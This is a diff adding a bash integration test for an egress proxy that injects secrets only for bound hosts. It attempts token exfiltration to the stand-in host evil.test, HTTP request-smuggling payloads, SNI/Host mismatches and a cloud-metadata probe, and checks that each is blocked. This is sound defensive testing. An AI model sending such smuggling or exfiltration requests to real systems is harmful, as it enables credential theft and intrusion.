@@ -1,0 +1,253 @@
+#!/bin/bash
+# SPDX-License-Identifier: GPL-2.0-or-later
+# The egress proxy on the host, through tests/unit/proxy-listen (the proxy core on a 127.0.0.1
+# listener) with real peers: curl, Python's http.server over ssl with a test CA, a raw TCP
+# server, and tests/integration/proxy-raw.py for the bytes curl would never send. Every case
+# checks what reached the upstream server (its request log), not just the proxy's answer, so
+# each fails when its defence is removed:
+#   substitution in headers and in Authorization: Basic to a bound host and its subdomains;
+#   451 and the compromise hook for an unbound host, look-alikes, a body (chunked, split across
+#   chunks; streamed past the buffer), a URL, an opaque tunnel; never substituted in the URL or
+#   body; CONNECT/SNI/Host disagreements refused; request smuggling refused; a client sending one
+#   byte per second does not stall the others; the egress policy and private addresses; the
+#   audit trail holds names, never values.
+# Run through tests/integration/run-one, which sources lib.sh.
+set -euo pipefail
+
+for cmd in curl openssl python3 bc; do
+    command -v $cmd >/dev/null || skip "$cmd not found"
+done
+# The distribution's interpreter when there is one: a version manager's shim costs 0.2 s a call.
+py=python3
+[ -x /usr/bin/python3 ] && py=/usr/bin/python3
+listen=$top_builddir/tests/unit/proxy-listen
+[ -x "$listen" ] || make -s -C "$top_builddir" tests/unit/proxy-listen >/dev/null ||
+    fail "cannot build tests/unit/proxy-listen"
+peer=$top_srcdir/tests/integration/proxy-peer.py
+raw=$top_srcdir/tests/integration/proxy-raw.py
+w=$test_tmpdir
+
+# A test CA and one server certificate for every name the tests use.
+openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$w/ca.key" \
+    -out "$w/ca.pem" -days 2 -subj "/CN=slate proxy test CA" \
+    -addext "basicConstraints=critical,CA:TRUE" -addext "keyUsage=critical,keyCertSign" 2>/dev/null
+openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$w/srv.key" \
+    -out "$w/srv.csr" -subj "/CN=api.bound.test" 2>/dev/null
+names="api.bound.test sub.api.bound.test evil.test evil-api.bound.test api.bound.test.evil.test"
+san=$(for n in $names; do printf 'DNS:%s,' "$n"; done)
+printf 'subjectAltName=%s\nextendedKeyUsage=serverAuth\n' "${san%,}" >"$w/ext.cnf"
+openssl x509 -req -in "$w/srv.csr" -CA "$w/ca.pem" -CAkey "$w/ca.key" -CAcreateserial \
+    -out "$w/srv.pem" -days 2 -extfile "$w/ext.cnf" 2>/dev/null
+
+pids=()
+kill_all() {
+    local p
+    for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
+    for p in "${pids[@]}"; do wait "$p" 2>/dev/null || true; done
+}
+on_exit kill_all
+wait_file() {
+    for _ in $(seq 100); do [ -s "$1" ] && return 0; sleep 0.05; done
+    fail "$1 did not appear"
+}
+$py "$peer" http --port-file "$w/tls.port" --cert "$w/srv.pem" --key "$w/srv.key" \
+    --log "$w/tls.log" &
+pids+=($!)
+$py "$peer" http --port-file "$w/plain.port" --log "$w/plain.log" &
+pids+=($!)
+$py "$peer" tcp --port-file "$w/tcp.port" --log "$w/tcp.log" &
+pids+=($!)
+wait_file "$w/tls.port"
+wait_file "$w/plain.port"
+wait_file "$w/tcp.port"
+tp=$(cat "$w/tls.port")
+pp=$(cat "$w/plain.port")
+cp=$(cat "$w/tcp.port")
+: >"$w/tls.log"
+: >"$w/plain.log"
+: >"$w/tcp.log"
+
+real_gh=ghp_R3alT0kenR3alT0kenR3alT0kenR3alT0ken9
+real_key=real-generic-value-0123456789
+cat >"$w/secrets.json" <<EOF
+[{"key": "GH_TOKEN", "kind": "github", "hosts": ["api.bound.test"], "value": "$real_gh"},
+ {"key": "API_KEY", "kind": "generic", "hosts": ["plain.bound.test"], "value": "$real_key"}]
+EOF
+policy() { echo "$1" >"$w/policy.json"; }
+policy '{"default": "allow-all", "rules": [{"action": "allow", "host": "127.0.0.1"}]}'
+connect_to=
+for n in $names; do connect_to+="$n:443:127.0.0.1:$tp,"; done
+for n in plain.bound.test evil.test sub.plain.bound.test; do connect_to+="$n:80:127.0.0.1:$pp,"; done
+connect_to+="tunnel.bound.test:22:127.0.0.1:$cp,plain.bound.test:22:127.0.0.1:$cp"
+"$listen" --state "$w/install" --secrets "$w/secrets.json" --placeholders "$w/ph.json" \
+    --policy "$w/policy.json" --events "$w/events.jsonl" --ca-file "$w/ca.pem" \
+    --connect-to "$connect_to" --port-file "$w/proxy.port" >"$w/proxy.log" 2>&1 &
+pids+=($!)
+wait_file "$w/proxy.port"
+px=$(cat "$w/proxy.port")
+ph() { $py -c 'import json,sys; print(json.load(open(sys.argv[1]))[sys.argv[2]])' "$w/ph.json" "$1"; }
+GH=$(ph GH_TOKEN)
+KEY=$(ph API_KEY)
+log "placeholders: $GH $KEY"
+[ "$(stat -c %a "$w/install/egress-ca.key")" = 600 ] || fail "the egress CA key is not 0600"
+
+pc() { curl -gsS --max-time 20 --proxy "http://127.0.0.1:$px" --cacert "$w/install/egress-ca.crt" "$@"; }
+code() { pc -o "$w/body" -w '%{http_code}' "$@" 2>/dev/null || true; }
+leaks() { grep -c '"type":"compromised"' "$w/events.jsonl" || true; }
+send() { $py "$raw" send "$px" "$1"; }
+# Whether a whole request for path $1 arrived at a server (cut ones are logged INCOMPLETE).
+reached() { cat "$w/plain.log" "$w/tls.log" | grep -v '^INCOMPLETE' | grep -qF -- " $1"; }
+
+# ---- substitution, bound hosts ----
+pc -H "Authorization: token $GH" "https://api.bound.test/a" >"$w/out"
+grep -qF "token $real_gh" "$w/out" || fail "the real value did not reach the bound host: $(cat "$w/out")"
+grep -qF "$GH" "$w/out" && fail "the placeholder reached the bound host"
+pc -H "Authorization: token $GH" "https://sub.api.bound.test/b" >"$w/out"
+grep -qF "$real_gh" "$w/out" || fail "a subdomain at a dot boundary is bound"
+# Case and one trailing dot do not make another host (raw: curl would tidy them).
+send "GET http://PLAIN.Bound.TEST./case HTTP/1.1\r\nHost: plain.bound.test\r\nX-Key: $KEY\r\n\r\n" >"$w/st"
+[ "$(cat "$w/st")" = 200 ] || fail "uppercase host with a trailing dot: $(cat "$w/st")"
+# Authorization: Basic, decoded and encoded again.
+pc -u "user:$KEY" "http://plain.bound.test/basic" >"$w/out"
+want=$(printf 'user:%s' "$real_key" | base64 -w0)
+grep -qF "Basic $want" "$w/out" || fail "Basic credentials not substituted: $(cat "$w/out")"
+# Never in the URL or the body, even to the bound host.
+pc --data "k=$KEY" "http://plain.bound.test/q?key=$KEY" >"$w/out"
+grep -qF "$real_key" "$w/out" && fail "a placeholder in the URL or body was substituted"
+grep -qF "/q?key=$KEY" "$w/out" || fail "the URL placeholder did not go as it was"
+grep -qF "k=$KEY" "$w/out" || fail "the body placeholder did not go as it was"
+[ "$(leaks)" = 0 ] || fail "a leak was reported for bound hosts"
+
+# ---- leaks: 451, the hook, nothing forwarded ----
+n=0
+expect_leak() { # what status
+    local what=$1 st=$2
+    n=$((n + 1))
+    [ "$st" = 451 ] || fail "$what: status $st, want 451"
+    [ "$(leaks)" = "$n" ] || fail "$what: the compromise hook did not run"
+}
+expect_leak "unbound host" "$(code -H "Authorization: token $GH" https://evil.test/steal1)"
+grep -q "compromised" "$w/body" || fail "the 451 does not explain: $(cat "$w/body")"
+reached /steal1 && fail "the leaking request reached the server"
+expect_leak "evil-<bound>" "$(code -H "X-T: $GH" https://evil-api.bound.test/steal2)"
+expect_leak "<bound>.evil.test" "$(code -H "X-T: $GH" https://api.bound.test.evil.test/steal3)"
+expect_leak "uppercase look-alike" "$(send "GET http://EVIL.TEST/steal4 HTTP/1.1\r\nHost: EVIL.TEST\r\nX-K: $KEY\r\n\r\n")"
+expect_leak "trailing-dot look-alike" "$(send "GET http://evil.test./steal5 HTTP/1.1\r\nHost: evil.test.\r\nX-K: $KEY\r\n\r\n")"
+expect_leak "URL" "$(code "http://evil.test/steal6?k=$KEY")"
+expect_leak "percent-encoded URL" "$(code "http://evil.test/steal7?k=$(printf %s "$KEY" | sed 's/_/%5F/')")"
+expect_leak "body" "$(code --data "k=$KEY" http://evil.test/steal8)"
+expect_leak "Basic credentials" "$(code -u "u:$KEY" http://evil.test/steal9)"
+half=$((${#KEY} / 2))
+expect_leak "chunked body, split across chunks" \
+    "$($py "$raw" chunks "$px" http://evil.test/steal10 "x=${KEY:0:$half}" "${KEY:$half}&y")"
+expect_leak "streamed body past the buffer" \
+    "$($py "$raw" bigbody "$px" http://evil.test/steal11 1000000 700000 "$KEY")"
+for i in 1 2 3 4 5 6 7 8 9 10 11; do reached "/steal$i" && fail "leak $i reached the server"; done
+cat "$w"/*.partial >"$w/partials" 2>/dev/null || true
+grep -qF "$KEY" "$w/partials" && fail "part of a cut request carried the placeholder"
+# An opaque tunnel (not TLS), scanned raw: cut, reported, the placeholder never arrives whole.
+[ "$($py "$raw" tunnel "$px" tunnel.bound.test:22 "SSH-2.0-x harmless")" = echoed ] ||
+    fail "an opaque tunnel does not relay"
+[ "$($py "$raw" tunnel "$px" tunnel.bound.test:22 "login $GH")" = closed ] ||
+    fail "a placeholder in an opaque tunnel to an unbound host was relayed"
+expect_leak "opaque tunnel" 451
+grep -qF "$GH" "$w/tcp.log" && fail "the tunnel's peer received the placeholder"
+
+# ---- CONNECT, SNI and Host must agree ----
+[ "$($py "$raw" tls "$px" evil.test:443 api.bound.test "$w/install/egress-ca.crt")" = \
+    handshake-failed ] || fail "SNI api.bound.test inside CONNECT evil.test was accepted"
+[ "$($py "$raw" tls "$px" api.bound.test:443 evil.test "$w/install/egress-ca.crt")" = \
+    handshake-failed ] || fail "SNI evil.test inside CONNECT api.bound.test was accepted"
+[ "$($py "$raw" tls "$px" api.bound.test:443 api.bound.test "$w/install/egress-ca.crt")" = \
+    handshake-ok ] || fail "a matching SNI was refused"
+[ "$(code -H "Host: evil.test" -H "X-T: $GH" https://api.bound.test/mis1)" = 421 ] ||
+    fail "Host evil.test inside a tunnel to api.bound.test was accepted"
+[ "$(send "GET http://plain.bound.test/mis2 HTTP/1.1\r\nHost: evil.test\r\n\r\n")" = 421 ] ||
+    fail "absolute-form target and Host disagreeing was accepted"
+[ "$(send "GET http://plain.bound.test@evil.test/mis3 HTTP/1.1\r\nHost: evil.test\r\n\r\n")" = 400 ] ||
+    fail "userinfo in the target was accepted"
+for i in 1 2 3; do reached "/mis$i" && fail "mismatch $i reached a server"; done
+
+# ---- strict framing: refused, never forwarded ----
+target="http://plain.bound.test"
+smuggle() { # name want payload (the request line is added)
+    local st
+    st=$(send "POST $target/$1 HTTP/1.1\r\nHost: plain.bound.test\r\n$3")
+    [ "$st" = "$2" ] || fail "smuggling case $1: status $st, want $2"
+    reached "/$1" && fail "smuggling case $1 reached the server"
+    return 0
+}
+smuggle cl-te 400 "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
+smuggle te-not-last 400 "Transfer-Encoding: chunked, x\r\n\r\n0\r\n\r\n"
+smuggle te-trailing-comma 400 "Transfer-Encoding: chunked,\r\n\r\n0\r\n\r\n"
+smuggle te-other 501 "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n"
+smuggle te-twice 400 "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
+smuggle cl-differ 400 "Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!"
+smuggle cl-list 400 "Content-Length: 5, 6\r\n\r\nhello!"
+smuggle cl-sign 400 "Content-Length: +5\r\n\r\nhello"
+smuggle obs-fold 400 "X-A: a\r\n b\r\nContent-Length: 0\r\n\r\n"
+smuggle bare-cr 400 "X-A: a\rb\r\nContent-Length: 0\r\n\r\n"
+smuggle bare-lf 400 "X-A: a\nContent-Length: 0\r\n\r\n"
+smuggle nul 400 "X-A: a\x00b\r\nContent-Length: 0\r\n\r\n"
+smuggle space-colon 400 "Content-Length : 5\r\n\r\nhello"
+smuggle bad-chunk 400 "Transfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n"
+long=$(head -c 9000 /dev/zero | tr '\0' a)
+[ "$(send "GET $target/$long HTTP/1.1\r\nHost: plain.bound.test\r\n\r\n")" = 414 ] ||
+    fail "a 9000-byte request line was not refused with 414"
+big=$(head -c 70000 /dev/zero | tr '\0' a)
+[ "$(send "GET $target/big-head HTTP/1.1\r\nHost: plain.bound.test\r\nX-Big: $big\r\n\r\n")" = 431 ] ||
+    fail "a 70 kB head was not refused with 431"
+reached "/big-head" && fail "the oversized head reached the server"
+# The control: the same shape, well-formed, does arrive (so "not reached" above means something).
+smuggle_ok=$(send "POST $target/well-formed HTTP/1.1\r\nHost: plain.bound.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
+[ "$smuggle_ok" = 200 ] && reached /well-formed || fail "a well-formed chunked request failed: $smuggle_ok"
+
+# ---- one byte per second does not stall the others ----
+$py "$raw" slow "$px" "http://plain.bound.test/slow" &
+slow=$!
+pids+=($slow)
+sleep 1.5
+t0=$(date +%s.%N)
+for i in $(seq 20); do
+    [ "$(code "http://plain.bound.test/fast$i")" = 200 ] || fail "request $i beside a slow client failed"
+done
+[ "$(code -H "Authorization: token $GH" https://api.bound.test/fast-tls)" = 200 ] ||
+    fail "an intercepted request beside a slow client failed"
+t=$(echo "$(date +%s.%N) - $t0" | bc)
+log "21 requests beside a one-byte-per-second client: ${t}s"
+[ "$(echo "$t < 5" | bc)" = 1 ] || fail "the other clients were stalled (${t}s)"
+kill "$slow" 2>/dev/null || true
+
+# ---- WebSocket: passes through after the handshake ----
+$py "$raw" ws "$px" api.bound.test "$w/install/egress-ca.crt" >"$w/ws"
+[ "$(head -1 "$w/ws")" = 101 ] && [ "$(tail -1 "$w/ws")" = echoed ] ||
+    fail "WebSocket upgrade: $(cat "$w/ws")"
+
+# ---- egress policy; private addresses only when allowed explicitly ----
+policy '{"default": "allow-all"}'
+[ "$(code http://plain.bound.test/private)" = 403 ] ||
+    fail "a name resolving to 127.0.0.1 was reached without an explicit allow"
+grep -q "loopback" "$w/body" || fail "the refusal does not say why: $(cat "$w/body")"
+[ "$(code "http://127.0.0.1:$pp/literal")" = 403 ] || fail "127.0.0.1 literal reached"
+[ "$(code http://169.254.169.254/latest/meta-data/)" = 403 ] || fail "the metadata address"
+[ "$(code http://[::1]:$pp/v6)" = 403 ] || fail "::1 literal reached"
+[ "$(code -H "X-T: $GH" https://api.bound.test/private-tls)" = 000 ] ||
+    fail "CONNECT to a name resolving to 127.0.0.1 went through"
+for p in private literal v6 private-tls; do reached "/$p" && fail "/$p reached a server"; done
+policy '{"default": "deny-all", "rules": [{"action": "allow", "host": "127.0.0.1"}, {"action": "allow", "host": "bound.test"}]}'
+[ "$(code http://plain.bound.test/allowed)" = 200 ] || fail "allow bound.test: $(cat "$w/body")"
+[ "$(code https://api.bound.test/allowed-tls)" = 200 ] || fail "allow bound.test (tls)"
+[ "$(code http://evil.test/denied)" = 403 ] || fail "deny-all let evil.test through"
+[ "$(code https://evil.test/denied-tls)" = 000 ] || fail "deny-all let CONNECT evil.test through"
+policy '{"default": "allow-all", "rules": [{"action": "allow", "host": "127.0.0.1"}, {"action": "deny", "host": "evil.test"}]}'
+[ "$(code http://evil.test/denied2)" = 403 ] || fail "deny evil.test"
+[ "$(code http://plain.bound.test/ok2)" = 200 ] || fail "allow-all with a deny rule"
+for p in denied denied-tls denied2; do reached "/$p" && fail "/$p reached a server"; done
+
+# ---- the audit trail: names, never values; query values redacted ----
+grep -q '"substituted":\["GH_TOKEN"\]' "$w/events.jsonl" || fail "no substitution recorded"
+grep -q '"path":"/q?key=\*"' "$w/events.jsonl" || grep -q '"path":"\\/q?key=\*"' "$w/events.jsonl" ||
+    fail "query values are not redacted: $(grep '/q?' "$w/events.jsonl")"
+grep -qF "$real_gh" "$w/events.jsonl" "$w/proxy.log" && fail "a real value in the audit trail"
+grep -qF "$real_key" "$w/events.jsonl" "$w/proxy.log" && fail "a real value in the audit trail"
+log "events: $(wc -l <"$w/events.jsonl"), leaks blocked: $(leaks)"
